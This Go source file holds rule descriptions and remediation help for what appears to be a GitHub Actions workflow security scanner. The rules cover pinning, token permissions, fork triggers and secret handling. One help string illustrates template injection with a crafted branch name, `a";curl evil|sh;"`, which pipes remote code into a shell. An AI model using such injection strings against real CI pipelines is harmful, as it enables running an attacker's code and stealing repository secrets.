package checks

var ruleDocs = []RuleMeta{
	{ID: RuleUnpinnedUses, Name: "UnpinnedUses", Severity: High, Remediation: FixPinActions,
		Short: "Action or reusable workflow not pinned to a full commit SHA",
		Help: "A tag or branch can be moved to different code at any time: in March 2025 the tags of tj-actions/changed-files " +
			"were repointed to a commit that printed the runner's secrets. Pin every remote `uses:` to the full 40-character " +
			"commit SHA and keep the version in a comment (`uses: actions/checkout@<sha> # v4.2.2`). Local `./` actions are " +
			"part of the repository and are already pinned; a short SHA is not a pin."},
	{ID: RuleUnpinnedImage, Name: "UnpinnedImage", Severity: Medium, Remediation: FixPinImages,
		Short: "Container image not pinned to a digest",
		Help: "An image tag can be pushed again with different content. Add the image's `@sha256:` index digest and keep the " +
			"tag for readability (`node:20@sha256:…`). Applies to job `container`, `services.*.image`, `docker://` steps and " +
			"Dockerfile `FROM`; `scratch`, build stages, `ARG` images and expressions are not flagged."},
	{ID: RuleMissingPermissions, Name: "MissingPermissions", Severity: Medium, Remediation: FixPermissions,
		Short: "Job runs with the repository's default token permissions",
		Help: "Without a `permissions:` block the GITHUB_TOKEN gets the repository default, which is write access to most " +
			"scopes in many repositories. Declare `permissions: contents: read` at the top of the workflow and give jobs that " +
			"need more their own complete block."},
	{ID: RuleExcessivePermissions, Name: "ExcessivePermissions", Severity: High, Remediation: FixPermissions,
		Short: "Token permissions broader than the jobs need",
		Help: "`write-all`, and write scopes granted to every job at the workflow level, hand a token that can push code, " +
			"publish packages or edit releases to every step, including third-party actions. Grant writes only to the job " +
			"that needs them."},
	{ID: RuleDangerousTrigger, Name: "DangerousTrigger", Severity: Info,
		Short: "Workflow runs with privileges on events from forks",
		Help: "`pull_request_target` and `workflow_run` run with a write token and secrets, even for pull requests from forks. " +
			"They are safe only when the workflow never runs code or expands text from the pull request; " +
			"see untrusted-checkout and template-injection."},
	{ID: RuleUntrustedCheckout, Name: "UntrustedCheckout", Severity: High, Exploitable: true,
		Short: "Privileged workflow checks out and runs a pull request's code",
		Help: "A `pull_request_target`, `workflow_run` or `issue_comment` workflow that checks out the pull request's head and " +
			"then runs build steps gives a fork's author the workflow's token and secrets (the Ultralytics compromise in " +
			"December 2024 began like this). Use `pull_request` for untrusted code, or split the work so that the privileged " +
			"part never executes the checkout."},
	{ID: RuleTemplateInjection, Name: "TemplateInjection", Severity: High, Exploitable: true,
		Short: "Attacker-controlled text expanded into a script",
		Help: "`${{ … }}` is substituted into a `run:` script or a github-script `script:` before it runs, so a pull request " +
			"title or branch name such as `a\";curl evil|sh;\"` becomes code. Pass the value through `env:` and use the " +
			"variable (`\"$TITLE\"`) instead."},
	{ID: RuleSecretsInherit, Name: "SecretsInherit", Severity: Medium,
		Short: "Every secret passed to a reusable workflow",
		Help:  "`secrets: inherit` gives the called workflow all of the caller's secrets. Pass only the secrets it needs, by name."},
	{ID: RuleArtipacked, Name: "Artipacked", Severity: Medium,
		Short: "Checkout credentials may end up in an uploaded artifact",
		Help: "Before v6, actions/checkout writes the token into `.git/config`; a job that later uploads the workspace as an " +
			"artifact publishes it. Set `persist-credentials: false` on the checkout (or update to actions/checkout v6)."},
	{ID: RuleMissingSecurityPolicy, Name: "MissingSecurityPolicy", Severity: Low, Remediation: FixSecurityPolicy, Reads: isSecurityPolicy,
		Short: "No security policy",
		Help: "Without SECURITY.md a researcher has no private way to report a vulnerability and may open a public issue. " +
			"Add a policy that points to private vulnerability reporting."},
	{ID: RuleMissingDependencyUpd, Name: "MissingDependencyUpdates", Severity: Low, Remediation: FixDependabot, Reads: isDependencyUpdateConfig,
		Short: "Pinned actions are not kept up to date",
		Help: "Pins rot: without Dependabot (or Renovate) updating the `github-actions` ecosystem, pinned SHAs never receive " +
			"security fixes. Add a `github-actions` entry to `.github/dependabot.yml`."},
	{ID: RuleInvalidWorkflow, Name: "InvalidWorkflow", Severity: Medium,
		Short: "File could not be parsed",
		Help: "The file is not valid YAML, not a workflow or action GitHub can run, or is over the size cap. It was not " +
			"scanned, so problems in it are unknown."},
	{ID: RuleImpostorCommit, Name: "ImpostorCommit", Severity: High, Remediation: FixPinActions,
		Short: "Pinned commit is on no branch or tag of the action's repository",
		Help: "Any commit of any fork can be fetched through the parent repository by SHA. A pin to a commit that no branch " +
			"or tag of the upstream repository contains may be an attacker's commit. Re-pin to a released tag's commit."},
	{ID: RuleRefVersionMismatch, Name: "RefVersionMismatch", Severity: Low, Remediation: FixPinActions,
		Short: "Version comment does not match the pinned commit",
		Help: "The `# vX` comment next to a pinned SHA names a tag that does not point at that commit, so reviewers are " +
			"misled about what runs. Correct the comment to the tag of the pinned commit."},
}
